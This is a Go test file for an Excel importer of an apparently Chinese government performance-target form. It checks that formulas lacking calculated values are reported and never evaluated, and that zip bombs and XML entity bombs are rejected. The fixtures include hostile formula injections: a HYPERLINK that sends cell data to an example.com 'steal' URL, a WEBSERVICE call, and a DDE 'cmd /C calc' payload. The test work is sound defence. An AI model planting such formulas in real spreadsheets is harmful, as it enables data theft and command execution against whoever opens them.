package export

import (
	"bytes"
	"fmt"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"jixiao/internal/testfiles"
	"jixiao/model"
	"jixiao/model/recognize"
)

// formulaWorkbook is a small clerk's table in the official layout, in
// which edit puts formulas; excelize writes them without a calculated
// value, as programs do.
func formulaWorkbook(t *testing.T, edit func(set func(string, any), formula func(cell, f string))) []byte {
	t.Helper()
	xf := excelize.NewFile()
	defer xf.Close()
	must := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	set := func(a string, v any) { must(xf.SetCellValue("Sheet1", a, v)) }
	formula := func(a, f string) { // a formula without a value
		set(a, nil)
		must(xf.SetCellFormula("Sheet1", a, f))
	}
	set("A1", "市级部门整体绩效目标申报表")
	set("A2", "（2021年度）")
	set("A3", "部门名称：")
	set("B3", "某某局")
	set("A4", "年度总体目标")
	set("B4", "目标1：完成第一件事")
	set("B5", "目标2：完成第二件事")
	set("B6", ".....")
	set("A8", "任务名称")
	set("B8", "主要内容")
	set("C8", "预算资金（万元）")
	set("A9", "甲单位")
	set("B9", "第一项")
	set("C9", 10)
	set("A10", "甲单位")
	set("B10", "第二项")
	set("C10", 20)
	set("A11", "合计")
	set("C11", 30)
	set("A13", "一级指标")
	set("B13", "二级指标")
	set("C13", "三级指标")
	set("D13", "指标值")
	set("A14", "产出指标")
	set("B14", "数量指标")
	set("C14", "完成项目数")
	set("D14", "2项")
	edit(set, formula)
	var buf bytes.Buffer
	if _, err := xf.WriteTo(&buf); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// TestImportFormulasWithoutValues: every cell holding a formula without a
// calculated value is reported once with its address (amount cells with
// the amount message), never evaluated, and its row is not counted among
// the skipped blank rows.
func TestImportFormulasWithoutValues(t *testing.T) {
	const textMsg = "单元格是公式“=%s”，文件中没有它的计算结果，读到的是空白"
	const amountMsg = "金额是公式“=%s”，但文件中没有它的计算结果"
	cases := []struct {
		name  string
		edit  func(set func(string, any), formula func(cell, f string))
		probs []string // "cell|message part", in order
		notes []string // must be there
		no    []string // must not be in the notes
		check func(t *testing.T, rep *ImportReport, goals, tasks, indicators int, texts []string)
	}{
		{
			name: "task content and amount",
			edit: func(set func(string, any), formula func(string, string)) {
				formula("B10", `HYPERLINK("http://example.com/steal?x="&A1,"点击")`)
				formula("C10", "10+10")
				set("C11", 10) // the file's total without the formula
			},
			probs: []string{
				"Sheet1!C10|" + fmt.Sprintf(amountMsg, "10+10"),
				"Sheet1!B10|" + fmt.Sprintf(textMsg, `HYPERLINK("http://example.com/steal?x="&A1,"点击")`),
			},
			no: []string{"年度主要任务：跳过"},
			check: func(t *testing.T, rep *ImportReport, goals, tasks, ind int, texts []string) {
				if tasks != 2 {
					t.Errorf("tasks %d, want 2 (the row with formulas kept, empty)", tasks)
				}
				for _, s := range texts {
					if strings.Contains(s, "example.com") || s == "20" {
						t.Errorf("a formula was evaluated or its text imported: %q", s)
					}
				}
			},
		},
		{
			name: "row made only of formulas",
			edit: func(set func(string, any), formula func(string, string)) {
				set("A10", nil)
				set("C11", 10)
				formula("B10", "1+1")
				formula("C10", `WEBSERVICE("http://example.com/")`)
				formula("B5", `cmd|' /C calc'!A0`)
			},
			probs: []string{
				"Sheet1!C10|" + fmt.Sprintf(amountMsg, `WEBSERVICE("http://example.com/")`),
				"Sheet1!B5|" + fmt.Sprintf(textMsg, `cmd|' /C calc'!A0`),
				"Sheet1!B10|" + fmt.Sprintf(textMsg, "1+1"),
			},
			notes: []string{"年度总体目标：保留了 1 个模板占位行（“.....”，在 Sheet1!B6）"}, // the "....." row is kept too
			no:    []string{"年度主要任务：跳过", "年度总体目标：跳过"},
			check: func(t *testing.T, rep *ImportReport, goals, tasks, ind int, texts []string) {
				if goals != 3 || tasks != 2 {
					t.Errorf("goals %d tasks %d, want 3 and 2 (formula rows kept, empty)", goals, tasks)
				}
			},
		},
		{
			name: "indicator text, last row of the sheet, total",
			edit: func(set func(string, any), formula func(string, string)) {
				formula("D14", `"≥"&2&"项"`)
				formula("C16", "1+1")         // after the last row with a value
				formula("C11", "SUM(C9:C10)") // recomputed: not reported
			},
			probs: []string{
				"Sheet1!D14|" + fmt.Sprintf(textMsg, `"≥"&2&"项"`),
				"Sheet1!C16|" + fmt.Sprintf(textMsg, "1+1"),
			},
			no: []string{"绩效指标：跳过"},
			check: func(t *testing.T, rep *ImportReport, goals, tasks, ind int, texts []string) {
				if ind != 2 {
					t.Errorf("indicators %d, want 2", ind)
				}
			},
		},
		{
			name: "title cell",
			edit: func(set func(string, any), formula func(string, string)) {
				formula("B3", "Sheet2!A1")
			},
			probs: []string{
				"|没有找到部门名称",
				"Sheet1!B3|" + fmt.Sprintf(textMsg, "Sheet2!A1"),
			},
		},
		{
			name: "bounded reports",
			edit: func(set func(string, any), formula func(string, string)) {
				for r := 20; r < 20+recognize.MaxFormulaReports+50; r++ {
					formula(fmt.Sprintf("E%d", r), "1+1")
				}
			},
			check: func(t *testing.T, rep *ImportReport, goals, tasks, ind int, texts []string) {
				if len(rep.Problems) != recognize.MaxFormulaReports+1 {
					t.Fatalf("%d problems, want %d and a summary", len(rep.Problems), recognize.MaxFormulaReports)
				}
				if last := rep.Problems[recognize.MaxFormulaReports]; last.Cell != "" || !strings.Contains(last.Message, "另有 50 个单元格是没有计算结果的公式") {
					t.Errorf("summary %+v", last)
				}
			},
		},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			f, rep, err := ImportBytes("f.xlsx", formulaWorkbook(t, c.edit), ImportOptions{})
			if err != nil {
				t.Fatal(err)
			}
			t.Log(rep.String())
			if c.probs != nil {
				if len(rep.Problems) != len(c.probs) {
					t.Errorf("%d problems, want %d", len(rep.Problems), len(c.probs))
				}
				for i, p := range c.probs {
					cell, msg, _ := strings.Cut(p, "|")
					if i >= len(rep.Problems) {
						break
					}
					if got := rep.Problems[i]; got.Cell != cell || !strings.HasPrefix(got.Message, msg) {
						t.Errorf("problem %d: %s：%s\nwant %s：%s…", i, got.Cell, got.Message, cell, msg)
					}
				}
			}
			seen := map[string]bool{}
			for _, p := range rep.Problems {
				if p.Cell != "" && seen[p.Cell] {
					t.Errorf("%s reported twice", p.Cell)
				}
				seen[p.Cell] = true
			}
			notes := strings.Join(rep.Notes, "\n")
			for _, n := range c.notes {
				if !strings.Contains(notes, n) {
					t.Errorf("notes lack %q:\n%s", n, notes)
				}
			}
			for _, n := range c.no {
				if strings.Contains(notes, n) {
					t.Errorf("notes have %q:\n%s", n, notes)
				}
			}
			if c.check != nil {
				var texts []string
				tasks := 0
				for _, u := range f.Units {
					for _, tk := range u.Tasks {
						tasks++
						texts = append(texts, tk.Content, tk.Total.Raw())
					}
				}
				for _, g := range f.Goals {
					texts = append(texts, g.Text)
				}
				for _, in := range f.Indicators {
					texts = append(texts, in.Level3, in.Value)
				}
				c.check(t, rep, len(f.Goals), tasks, len(f.Indicators), texts)
			}
		})
	}
}

// TestImportFormulasFile: the hostile formulas.xlsx of internal/testfiles
// (16 long text cells of our form replaced by formulas) reports each of
// them, and no row is counted as blank for them.
func TestImportFormulasFile(t *testing.T) {
	var base bytes.Buffer
	if err := WriteXLSX(&base, model.Sample()); err != nil {
		t.Fatal(err)
	}
	data, err := testfiles.Formulas(base.Bytes())
	if err != nil {
		t.Fatal(err)
	}
	_, rep, err := ImportBytes("formulas.xlsx", data, ImportOptions{})
	if err != nil {
		t.Fatal(err)
	}
	n := 0
	for _, p := range rep.Problems {
		if strings.Contains(p.Message, "没有它的计算结果") && p.Cell != "" {
			n++
		}
	}
	if want := 4 * len(testfiles.FormulaTexts); n != want {
		t.Errorf("%d formula cells reported, want %d:\n%s", n, want, rep.String())
	}
	if strings.Contains(strings.Join(rep.Notes, "\n"), "年度总体目标：跳过") {
		t.Errorf("formula rows counted as blank:\n%s", rep.String())
	}
}

// TestImportBrokenSheetXML: the lying zip bomb (its sheet is cut at the
// declared size) and the XML entity bomb are refused as damaged or
// unsafe, not as "no form found".
func TestImportBrokenSheetXML(t *testing.T) {
	lying, err := testfiles.ZipBomb(64<<20, true)
	if err != nil {
		t.Fatal(err)
	}
	entity, err := testfiles.XMLEntityBomb()
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		name string
		data []byte
		want string
	}{
		{"lying.xlsx", lying, "内容不完整"},
		{"entity.xlsx", entity, "含有不安全的实体定义"},
	} {
		f, _, err := ImportBytes(c.name, c.data, ImportOptions{})
		if err == nil || f != nil {
			t.Fatalf("%s imported", c.name)
		}
		if msg := err.Error(); !strings.Contains(msg, "已损坏或不是正常的 Excel 文件") || !strings.Contains(msg, c.want) || !strings.Contains(msg, c.name) {
			t.Errorf("%s: %s", c.name, msg)
		}
	}
}
